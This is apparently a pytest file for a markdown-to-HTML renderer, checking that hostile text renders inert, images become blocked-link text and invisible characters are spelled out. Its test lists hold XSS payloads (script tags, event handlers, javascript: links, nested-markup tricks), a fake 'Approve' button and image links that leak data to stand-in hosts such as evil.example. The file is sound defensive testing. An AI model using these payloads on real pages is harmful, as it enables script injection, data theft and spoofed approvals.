"""Hostile text becomes HTML in which nothing can act."""

import re

import pytest

from archnb.html import FIXED, SCROLLED, preformatted, render_markdown, text_html, visible

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "![x](http://127.0.0.1/?q=secret)",
    "![x][1]\n\n[1]: http://127.0.0.1/x.png",
    "<style>@import url(http://127.0.0.1)</style>",
    "<a href='x' style='background:url(http://127.0.0.1)' onclick=x>y</a>",
    '<button class="jupyter-button archnb-approve">Approve</button>',
    "<form action=http://127.0.0.1><input name=x></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=1> |",
    "<<script>script>alert(1)</script>",
    "&lt;script&gt;alert(1)",
    "\x00<scr\x00ipt>",
]


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("render", [render_markdown, text_html, preformatted])
def test_nothing_active_comes_out(text, render):
    html = render(text)
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z]+)", html))
    assert tags <= set(
        "a br code em h1 h2 li ol p pre span strong table tbody td th thead tr ul".split()
    )
    for tag in re.findall(r"<[a-zA-Z][^>]*>", html.replace(f' style="{FIXED};{SCROLLED}"', "")):
        assert not re.search(
            r"\bon\w+\s*=|style\s*=|class\s*=|src\s*=|javascript:|data:", tag, re.IGNORECASE
        ), tag


def test_ordinary_markdown_survives():
    html = render_markdown(
        "# T\n\n- a **b**\n\n| x |\n|---|\n| 1 |\n\n[l](https://example.org) `c`\n\n```\ncode\n```"
    )
    for part in (
        "<h1>T</h1>",
        "<li>a <strong>b</strong></li>",
        "<td>1</td>",
        'href="https://example.org"',
        "<pre><code>code",
    ):
        assert part in html


@pytest.mark.parametrize(
    "character", ["\u202e", "\u200b", "\x1b", "\u2066", "\ufeff", "\x00", "\u00ad", "\U000e0041"]
)
def test_what_cannot_be_seen_is_spelled_out(character):
    assert visible(f"a{character}b") == f"a<U+{ord(character):04X}>b"
    assert character not in text_html(f"a{character}b")


def test_a_paragraph_without_end_stays_text_and_the_rest_is_rendered():
    html = render_markdown("# T\n\n" + "**x** " * 10_000 + "\n\n- **b**\n")
    assert html.startswith("<h1>T</h1>")
    assert "<strong>x" not in html
    assert "<li><strong>b</strong></li>" in html


def test_an_answer_without_end_is_not_parsed():
    assert render_markdown("x\n\n" * 200_000).startswith("<pre")


LONG = [
    ("references across blocks", "[a][r]\n\n{}\n\n[r]: https://example.org\n"),
    ("a fence with empty lines", "```\na\n\n{}\n\nb\n```\n\nc"),
    ("a loose list", "- a\n\n  {}\n\n- b\n\n      code\n\n1. c"),
    ("a table", "| a |\n|---|\n| {} |\n\nafter"),
    ("a quote", "> a\n>\n> {}\nlazy\n\nb"),
]


@pytest.mark.parametrize(("name", "frame"), LONG, ids=[name for name, _ in LONG])
def test_a_long_answer_is_rendered_as_a_short_one(name, frame):
    """What stands around a long middle reads as it would around a short one."""
    filler = "word " * 300
    short, long = (
        render_markdown("\n\n".join([frame.format(filler)] * count)) for count in (1, 40)
    )
    assert len(frame.format(filler)) * 40 > 50_000
    assert long.count("<p>") >= short.count("<p>")
    for tag in set(re.findall(r"<(\w+)", short)):
        assert long.count(f"<{tag}") >= short.count(f"<{tag}") * (40 if tag == "a" else 1)
    assert not long.startswith('<pre style="')


IMAGES = [
    ("![x](https://evil.example/?d=S)", "image blocked: evil.example (x)", "https://evil.example/?d=S"),
    ("![](https://u:p@evil.example:1/)", "image blocked: evil.example", "https://u:p@evil.example:1/"),
    ("![x](local.png)", "image blocked: no host (x)", None),
    ("![x](data:image/png;base64,AAAA)", "image blocked: no host (x)", None),
    ("![x](https://[::1)", "image blocked: no host (x)", None),
    ("[![x](https://a.example)](https://b.example)", "image blocked: a.example (x)", "https://b.example"),
    ("![<b>](https://a.example)", "image blocked: a.example (&lt;b&gt;)", "https://a.example"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "words", "link"), IMAGES)
def test_an_image_is_words(text, words, link):
    """o117: what is fetched is a message that is sent; a person may follow the link."""
    html = render_markdown(text)
    assert words in html
    assert "<img" not in html
    links = re.findall(r'href="([^"]*)"', html)
    assert links == ([link] if link else [])


@pytest.mark.parametrize(
    "formula",
    ["$a$", "$$a$$", r"\\(a\\)", r"\\[a\\]", r"\begin{equation}a\end{equation}", r"\eqref{a}"],
)
def test_a_page_finds_no_formula(formula):
    """o133: MathJax never looks across a tag."""
    for html in (text_html(formula), render_markdown(formula)):
        runs = re.split(r"<[^>]*>", html)
        assert not any(re.search(r"\$.|.\$|\\[(\[]|\\begin|\\(eq)?ref", run) for run in runs), html
